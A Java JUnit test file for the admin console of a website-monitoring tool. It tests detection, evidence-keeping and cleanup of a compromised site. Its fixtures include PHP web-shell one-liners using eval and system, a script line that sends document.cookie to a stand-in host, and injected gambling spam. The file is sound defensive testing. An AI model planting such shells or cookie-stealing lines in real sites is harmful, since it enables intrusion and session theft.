package id.jagasitus.admin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.jagasitus.account.Role;
import id.jagasitus.event.Severity;
import id.jagasitus.event.Signal;
import id.jagasitus.event.Subject;
import id.jagasitus.watch.Tie;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import java.util.zip.ZipInputStream;
import org.htmlunit.html.HtmlCheckBoxInput;
import org.htmlunit.html.HtmlFileInput;
import org.htmlunit.html.HtmlForm;
import org.htmlunit.html.HtmlPage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Pantauan, Konten, Perubahan, Layanan, over a small site with an injection and a dropped shell.
 */
final class WatchTest {

  @TempDir Path folder;
  private AdminServer server;
  private Browser browser;

  @BeforeEach
  void open() throws Exception {
    server = Rooms.with(List.of());
    browser = Browser.loggedIn(server, "budi");
  }

  @AfterEach
  void close() throws Exception {
    browser.close();
    server.close();
  }

  @Test
  void watch_panels_sayWhatWasFound() throws Exception {
    String text = Browser.main(browser.get("/pantauan"));
    assertTrue(text.contains("Dapat dijangkau"), text);
    assertTrue(text.contains("HTTP 503"), text);
    assertTrue(text.contains("4 perubahan"), text);
    assertTrue(text.contains("slot gacor hari ini"), text);
    assertTrue(text.contains("Urutan pembersihan"), text);
    assertTrue(text.contains("Tidak ditemukan tanda bukan berarti pasti bersih"), text);
  }

  @Test
  void check_outage_isNotedWithItsCause() throws Exception {
    HtmlPage page = browser.get("/pantauan/cek?id=site");
    String before = Browser.main(page);
    assertTrue(before.contains("Setahun sekilas"), before);
    assertTrue(before.contains("HTTP 503"), before);
    HtmlForm form = Browser.form(page, "/pantauan/gangguan");
    form.getSelectByName("sebab").setSelectedAttribute("POWER", true);
    form.getInputByName("keterangan").setValue("listrik kantor padam");
    String after = Browser.main(Browser.submit(form));
    assertTrue(after.contains("Sebab gangguan dicatat."), after);
    assertTrue(after.contains("Listrik: listrik kantor padam"), after);
    assertTrue(Browser.main(browser.get("/pantauan")).contains("listrik kantor padam"));
  }

  @Test
  void cleanup_stages_areSignedInTheirOrderOnly() throws Exception {
    String page = "/pantauan/bersihkan?temuan=" + injected();
    String early = Browser.main(browser.get(page));
    assertTrue(early.contains("Amankan bukti"), early);
    assertTrue(early.contains("Jangan memulihkan lebih dahulu"), early);
    assertEquals(1, forms(browser.get(page)));
    for (String stage : List.of("EVIDENCE", "NOTICE", "ENTRY", "RESTORE", "PASSWORDS")) {
      String after = sign(page, stage);
      assertTrue(after.contains("Langkah ditandatangani."), stage + after);
    }
    HtmlPage refused = signing(page, "RESCAN");
    assertEquals(422, Browser.status(refused));
    String why = Browser.main(refused);
    assertTrue(why.contains("masih ada 2 tempat dengan tanda atau perubahan kritis"), why);
    assertTrue(why.contains("pemeriksaan terakhir: /berita/index.html /shell.php"), why);
    assertEquals(
        "sudah dikerjakan bersama penyedia",
        Browser.form(refused, "/pantauan/bersihkan").getTextAreaByName("keterangan").getText());
    Browser.submit(
        Browser.form(
            browser.get("/perubahan/rinci?berkas=berita%2Findex.html"), "/perubahan/pulihkan"));
    Browser.submit(
        Browser.form(browser.get("/perubahan/rinci?berkas=shell.php"), "/perubahan/pulihkan"));
    for (String stage : List.of("RESCAN", "SEARCH", "BACKUP")) {
      sign(page, stage);
    }
    String done = Browser.main(browser.get(page));
    assertTrue(done.contains("Semua langkah sudah ditandatangani."), done);
    assertTrue(done.contains("Fakta disimpan: SHA-256"), done);
  }

  private String sign(String page, String stage) throws Exception {
    return Browser.main(signing(page, stage));
  }

  private HtmlPage signing(String page, String stage) throws Exception {
    HtmlForm form = Browser.form(browser.get(page), "/pantauan/bersihkan");
    assertEquals(stage, form.getInputByName("langkah").getValue());
    form.getTextAreaByName("keterangan").setText("sudah dikerjakan bersama penyedia");
    return Browser.submit(form);
  }

  @Test
  void cleanup_evidence_isKeptWithTheInfectedFilesForTheAdminAlone() throws Exception {
    long finding = injected();
    String page = "/pantauan/bersihkan?temuan=" + finding;
    String evidence = "/pantauan/bukti?temuan=" + finding;
    assertEquals(404, Browser.status(browser.get(evidence)));
    sign(page, "EVIDENCE");
    String kept = unpacked(evidence);
    assertTrue(kept.contains("<?php @eval($_POST['x']);"), kept);
    assertTrue(kept.contains("slot gacor hari ini"), kept);
    server.console.accounts.put("wati", Rooms.PASSWORD, Role.KASUBBAG);
    try (var other = new Browser(server, false)) {
      other.logIn("wati", Rooms.PASSWORD);
      assertEquals(403, Browser.status(other.get(evidence)));
      String guide = Browser.main(other.get(page));
      assertTrue(guide.contains("Langkah ini ditandatangani oleh Admin."), guide);
      assertFalse(guide.contains("Unduh bukti"), guide);
    }
  }

  private static long forms(HtmlPage page) {
    return page.getForms().stream()
        .filter(form -> form.getActionAttribute().endsWith("/pantauan/bersihkan"))
        .count();
  }

  /** The number of the finding that the watch made of the hidden footer. */
  private long injected() throws Exception {
    var at = server.console.watched.desk().now().view().at();
    var signal =
        new Signal(
            "clean-scan",
            "injected-content",
            Severity.CRITICAL,
            90,
            at,
            new Subject.Place("/berita/index.html"),
            true,
            Map.of("seen", "slot gacor http://promo.example/"),
            null);
    return server.console.detection.findings.accept(List.of(signal)).getFirst().id();
  }

  @Test
  void report_package_masksAddressesUntilTheAdminAllowsThem() throws Exception {
    long finding = injected();
    server.console.store.append(
        List.of(
            TestVisits.event(
                Instant.parse("2026-11-22T03:00:00Z"),
                "203.0.113.77",
                "/berita/index.html",
                200,
                "",
                "Mozilla/5.0",
                900)));
    server.console.store.refresh();
    String masked = report(finding);
    assertTrue(masked.contains("203.0.113.0"), masked);
    assertFalse(masked.contains("203.0.113.77"), masked);
    assertTrue(masked.contains("Kepada: BSSN"), masked);
    assertTrue(masked.contains("hxxp://promo.example/"), masked);
    assertTrue(masked.contains("SHA-256 "), masked);
    HtmlPage page = browser.get("/pantauan/bersihkan?temuan=" + finding);
    HtmlForm form = Browser.form(page, "/pantauan/laporan/setujui");
    form.getInputByName("alasan").setValue("diminta BSSN");
    assertTrue(Browser.main(Browser.submit(form)).contains("Alamat utuh disetujui"));
    assertTrue(report(finding).contains("203.0.113.77"));
  }

  /** Every file of the package, one after the other. */
  private String report(long finding) throws Exception {
    return unpacked("/pantauan/laporan?temuan=" + finding);
  }

  private String unpacked(String path) throws Exception {
    var answer = browser.client().getPage(server.url(path)).getWebResponse();
    assertEquals("application/zip", answer.getContentType());
    var all = new StringBuilder();
    try (var zip = new ZipInputStream(answer.getContentAsStream())) {
      while (zip.getNextEntry() != null) {
        all.append(new String(zip.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return all.toString();
  }

  @Test
  void check_notKnown_isNotFound() throws Exception {
    assertEquals(404, browser.get("/pantauan/cek?id=x").getWebResponse().getStatusCode());
  }

  @Test
  void services_readFromOutside_standBesideTheRegister() throws Exception {
    String text = Browser.main(browser.get("/layanan"));
    assertTrue(text.contains("Let's Encrypt"), text);
    assertTrue(text.contains("ns1.contoh.id ns2.contoh.id"), text);
    assertTrue(text.contains("berbeda 365 hari dari catatan"), text);
    assertTrue(text.contains("203.0.113.1"), text);
  }

  @Test
  void changes_servedStranger_isShownApprovedAndReported() throws Exception {
    String list = Browser.main(browser.get("/perubahan"));
    assertTrue(list.contains("jahat.example/x.js"), list);
    assertTrue(list.contains("Skrip dari host luar"), list);
    assertTrue(list.contains("kirim('https://jahat.example/', document.cookie)"), list);
    HtmlPage one =
        (HtmlPage) browser.get("/perubahan").getAnchorByText("jahat.example/x.js").click();
    String text = Browser.main(one);
    assertTrue(text.contains("Halaman menjalankan skrip dari host luar."), text);
    assertTrue(text.contains("https://jahat.example/x.js?v=1"), text);
    assertTrue(text.contains("Tautan keluar: koran.example"), text);
    Browser.submit(Browser.form(one, "/perubahan/sajian/temuan"));
    assertEquals("served-change", server.console.watched.signals.getLast().intent());
    HtmlPage after = Browser.submit(Browser.form(one, "/perubahan/sajian/setujui"));
    assertTrue(Browser.main(after).contains("Disetujui dan dicatat"), Browser.main(after));
    assertFalse(Browser.main(browser.get("/perubahan")).contains("jahat.example/x.js"));
    assertTrue(Browser.main(browser.get("/perubahan/sajian")).contains("jahat.example/x.js"));
  }

  @Test
  void served_list_showsWhatCameAndWent() throws Exception {
    String text = Browser.main(browser.get("/perubahan/sajian"));
    assertTrue(
        text.contains("Skrip dari host luar: www.googletagmanager.com/gtag/js?id=G-1"), text);
    assertTrue(text.contains("oleh budi"), text);
    assertTrue(text.contains("Tautan keluar: koran.example"), text);
  }

  @Test
  void served_approvedTwice_isRefused() throws Exception {
    HtmlPage one = (HtmlPage) browser.get("/perubahan").getAnchorByText("koran.example").click();
    HtmlForm form = Browser.form(one, "/perubahan/sajian/setujui");
    Browser.submit(form);
    assertTrue(Browser.main(Browser.submit(form)).contains("situs berubah sejak"));
    assertEquals(
        server.url("/perubahan"),
        browser.get("/perubahan/sajian/rinci?id=tidak-ada").getUrl().toString());
  }

  @Test
  void served_chosen_areApprovedTogether() throws Exception {
    HtmlPage page = browser.get("/perubahan");
    HtmlForm form = Browser.form(page, "/perubahan/sajian/setujui");
    assertTrue(Browser.main(Browser.submit(form)).contains("Pilih sedikitnya satu"));
    HtmlForm again = Browser.form(browser.get("/perubahan"), "/perubahan/sajian/setujui");
    again.getInputsByName("sajian").forEach(box -> ((HtmlCheckBoxInput) box).setChecked(true));
    Browser.submit(again);
    assertTrue(Browser.main(browser.get("/perubahan")).contains("Tidak ada yang baru pada 2"));
  }

  @Test
  void served_firstState_isRefusedWhileThereAreSigns() throws Exception {
    var outgoing = server.console.watched.outgoing;
    outgoing.begin("https://baru.go.id/");
    Instant at = Instant.parse("2026-11-22T03:00:00Z");
    outgoing.looked(
        "/",
        Map.of(new Tie(Tie.Kind.LINK, "a.example"), "", new Tie(Tie.Kind.FRAME, "b.example"), ""),
        (tie, came) -> Severity.INFO,
        at);
    HtmlPage list = browser.get("/perubahan");
    assertTrue(Browser.main(list).contains("2 host dan skrip pada 1 halaman"), list.asXml());
    HtmlForm form = Browser.form(browser.get("/perubahan/sajian"), "/perubahan/sajian/setujui");
    assertTrue(Browser.main(Browser.submit(form)).contains("tanda sisipan yang kritis"));
    HtmlForm again = Browser.form(browser.get("/perubahan/sajian"), "/perubahan/sajian/setujui");
    again.getInputByName("walau").setChecked(true);
    assertTrue(Browser.main(Browser.submit(again)).contains("Disetujui dan dicatat"));
    assertEquals("budi", outgoing.view().by());
  }

  @Test
  void changes_asCsv_holdFilesAndWhatIsServed() throws Exception {
    String csv =
        browser
            .client()
            .getPage(server.url("/perubahan/csv"))
            .getWebResponse()
            .getContentAsString();
    assertTrue(csv.contains("shell.php"), csv);
    assertTrue(csv.contains("jahat.example/x.js"), csv);
    assertTrue(csv.contains("Skrip dari host luar"), csv);
  }

  @Test
  void approve_all_coversFilesAndWhatIsServed() throws Exception {
    HtmlPage page = browser.get("/perubahan");
    HtmlForm form = page.getFirstByXPath("//form[input[@name='semua']]");
    form.getInputByName("walau").setChecked(true);
    String text = Browser.main(Browser.submit(form));
    assertTrue(text.contains("Tidak ada yang baru pada 2"), text);
    assertTrue(text.contains("Tidak ada perbedaan dengan acuan."), text);
  }

  @Test
  void changes_undoneByOneClick_areAsApproved() throws Exception {
    HtmlPage one = browser.get("/perubahan/rinci?berkas=berita%2Findex.html");
    assertTrue(Browser.main(one).contains("promo.example"));
    HtmlPage after = Browser.submit(Browser.form(one, "/perubahan/pulihkan"));
    assertTrue(Browser.main(after).contains("berita/index.html dipulihkan"));
    assertFalse(Files.readString(site().resolve("berita/index.html")).contains("promo.example"));
    HtmlPage shell = browser.get("/perubahan/rinci?berkas=shell.php");
    Browser.submit(Browser.form(shell, "/perubahan/pulihkan"));
    assertFalse(Files.exists(site().resolve("shell.php")));
    assertTrue(
        Browser.main(browser.get("/perubahan")).contains("Tidak ada perbedaan dengan acuan."));
  }

  @Test
  void changes_approvedContentNowhere_saysWhatElseCanBeDone() throws Exception {
    HtmlForm undo =
        Browser.form(
            browser.get("/perubahan/rinci?berkas=berita%2Findex.html"), "/perubahan/pulihkan");
    try (Stream<Path> all = Files.walk(Objects.requireNonNull(site().getParent()))) {
      for (Path copy : all.filter(path -> path.toString().contains("/approved/")).toList()) {
        Files.delete(copy);
      }
    }
    String text = Browser.main(Browser.submit(undo));
    assertTrue(text.contains("Berkas ini tidak dapat dipulihkan dari sini"), text);
    assertTrue(Files.readString(site().resolve("berita/index.html")).contains("promo.example"));
  }

  @Test
  void changes_decidedFromAnOldPage_areGone() throws Exception {
    HtmlPage old = browser.get("/perubahan/rinci?berkas=shell.php");
    HtmlForm again = Browser.form(old, "/perubahan/temuan");
    Browser.submit(Browser.form(old, "/perubahan/pulihkan"));
    String text = Browser.main(Browser.submit(again));
    assertTrue(text.contains("Yang dimaksud sudah tidak ada."), text);
  }

  @Test
  void changes_infectedSite_isNotApprovedAsAWhole() throws Exception {
    HtmlForm form =
        (HtmlForm) browser.get("/perubahan").getFirstByXPath("//form[input[@name='semua']]");
    HtmlPage after = Browser.submit(form);
    assertTrue(Browser.main(after).contains("tanda sisipan yang kritis"));
    assertFalse(server.console.watch().now().approved());
  }

  @Test
  void changes_whatNobodySaw_isNotApproved() throws Exception {
    HtmlForm stale =
        Browser.form(browser.get("/perubahan/rinci?berkas=shell.php"), "/perubahan/setujui");
    Files.writeString(site().resolve("shell.php"), "<?php system($_GET['lain']);");
    Browser.submit(Browser.form(browser.get("/pantauan"), "/pantauan/periksa"));
    String after = Browser.main(Browser.submit(stale));
    assertTrue(after.contains("situs berubah sejak halaman ini dibuka"), after);
    HtmlForm fresh =
        Browser.form(browser.get("/perubahan/rinci?berkas=shell.php"), "/perubahan/setujui");
    assertTrue(Browser.main(Browser.submit(fresh)).contains("Perubahan disetujui"));
  }

  @Test
  void changes_reported_becomeASignal() throws Exception {
    HtmlPage one = browser.get("/perubahan/rinci?berkas=shell.php");
    Browser.submit(Browser.form(one, "/perubahan/temuan"));
    assertEquals("change-reported", server.console.watched.signals.getFirst().rule());
  }

  @Test
  void publishing_openedAndClosed_isSaid() throws Exception {
    HtmlPage open = Browser.submit(Browser.form(browser.get("/perubahan"), "/perubahan/terbit"));
    assertTrue(Browser.main(open).contains("Masa penerbitan dibuka."));
    HtmlPage closed = Browser.submit(Browser.form(open, "/perubahan/selesai"));
    assertTrue(Browser.main(closed).contains("Masa penerbitan ditutup"));
  }

  @Test
  void content_sections_haveScoreDateAndPlace() throws Exception {
    String text = Browser.main(browser.get("/konten"));
    assertTrue(text.contains("/profil/visi-misi.html"), text);
    assertTrue(text.contains("Sudah lama"), text);
    assertTrue(text.contains("04 Jan 2024"), text);
  }

  @Test
  void settings_linksAllowed_namesEveryHostAndContentWhatIsDead() throws Exception {
    assertTrue(Browser.main(browser.get("/konten")).contains("izinkan lebih dahulu"));
    HtmlForm form = Browser.form(browser.get("/pantauan/pengaturan"), "/pantauan/pengaturan");
    form.getInputByName("tautan").setChecked(true);
    HtmlPage allowed = Browser.submit(form);
    assertTrue(allowed.asXml().contains("promo.example"));
    String text = Browser.main(browser.get("/konten"));
    assertTrue(
        text.contains(
            "https://promo.example/: Halaman ini tidak ada di server. Perbaiki alamatnya, atau"
                + " kembalikan halamannya. (HTTP 404)"),
        text);
  }

  @Test
  void content_nearItsLimit_isDueSoon() throws Exception {
    assertFalse(Browser.main(browser.get("/konten?hanya=due")).contains("Segera jatuh tempo"));
    HtmlForm form = Browser.form(browser.get("/konten/bagian?id=vision"), "/konten/bagian");
    form.getInputByName("umur").setValue("1100"); // of 1053 days
    Browser.submit(form);
    String due = Browser.main(browser.get("/konten?hanya=due"));
    assertTrue(due.contains("Visi dan misi Segera jatuh tempo 2"), due);
  }

  @Test
  void services_renewedWithProof_movesItsDate() throws Exception {
    Path proof = Files.writeString(folder.resolve("bukti.pdf"), "%PDF-1.7 bukti");
    HtmlPage page = browser.get("/layanan");
    HtmlForm form =
        (HtmlForm)
            page.getFirstByXPath("//form[contains(@action,'perpanjang')][input[@value='domain']]");
    form.getInputByName("berakhir").setValue("2028-01-31");
    form.getInputByName("biaya").setValue("150000");
    ((HtmlFileInput) form.getInputByName("bukti")).setFiles(proof.toFile());
    String text = Browser.main(Browser.submit(form));
    assertTrue(text.contains("Perpanjangan ditutup dengan bukti."), text);
    assertTrue(text.contains("31 Jan 2028"), text);
  }

  @Test
  void services_contractAttached_canBeReadAgain() throws Exception {
    Path contract = Files.writeString(folder.resolve("kontrak.pdf"), "%PDF-1.7 kontrak");
    HtmlForm form = attachTo("domain");
    form.getInputByName("perihal").setValue("Kontrak 2026");
    ((HtmlFileInput) form.getInputByName("bukti")).setFiles(contract.toFile());
    HtmlPage after = Browser.submit(form);
    assertTrue(Browser.main(after).contains("Berkas dilampirkan"), Browser.main(after));
    var file = after.getAnchorByText("Kontrak 2026").click().getWebResponse();
    assertEquals("application/pdf", file.getContentType());
    assertTrue(file.getContentAsString().endsWith("kontrak"));
  }

  @Test
  void services_whatIsNoPaper_isRefused() throws Exception {
    Path other = Files.writeString(folder.resolve("kontrak.pdf"), "<script>");
    HtmlForm form = attachTo("domain");
    form.getInputByName("perihal").setValue("Kontrak 2026");
    ((HtmlFileInput) form.getInputByName("bukti")).setFiles(other.toFile());
    HtmlPage after = Browser.submit(form);
    assertFalse(Browser.main(after).contains("Berkas dilampirkan"), Browser.main(after));
  }

  @Test
  void services_paperOfNobody_isNotFound() throws Exception {
    var page = browser.get("/layanan/berkas?berkas=" + "a".repeat(64));
    assertEquals(404, page.getWebResponse().getStatusCode());
  }

  private HtmlForm attachTo(String service) throws Exception {
    return (HtmlForm)
        browser
            .get("/layanan")
            .getFirstByXPath(
                "//form[contains(@action,'lampirkan')][input[@value='" + service + "']]");
  }

  @Test
  void services_calendar_isAnIcsFile() throws Exception {
    var file = browser.client().getPage(server.url("/layanan/kalender")).getWebResponse();
    assertEquals("text/calendar", file.getContentType());
    assertTrue(file.getContentAsString().contains("BEGIN:VEVENT"));
  }

  @Test
  void settings_wrongEntries_areToldInWords() throws Exception {
    String page = "/pantauan/pengaturan";
    HtmlForm form = Browser.form(browser.get(page), page);
    form.getTextAreaByName("layanan").setText("SIPP | https://sipp.example/\ne-Court");
    String line = Browser.main(Browser.submit(form));
    assertTrue(line.contains("Baris ini belum lengkap: e-Court."), line);
    form = Browser.form(browser.get(page), page);
    form.getTextAreaByName("layanan").setText("SIPP | sipp.example");
    String address = Browser.main(Browser.submit(form));
    assertTrue(address.contains("masing-masing diawali http:// atau https://"), address);
  }

  @Test
  void settings_addresses_areAllListed() throws Exception {
    HtmlForm form = Browser.form(browser.get("/pantauan/pengaturan"), "/pantauan/pengaturan");
    form.getTextAreaByName("layanan").setText("SIPP | https://sipp.pn-contoh.go.id/ | Perkara");
    form.getInputByName("keluar").setChecked(true);
    String text = Browser.main(Browser.submit(form));
    assertTrue(text.contains("Pengaturan pantauan disimpan."), text);
    assertTrue(text.contains("https://sipp.pn-contoh.go.id/"), text);
  }

  private Path site() {
    return server.console.watched.site;
  }
}
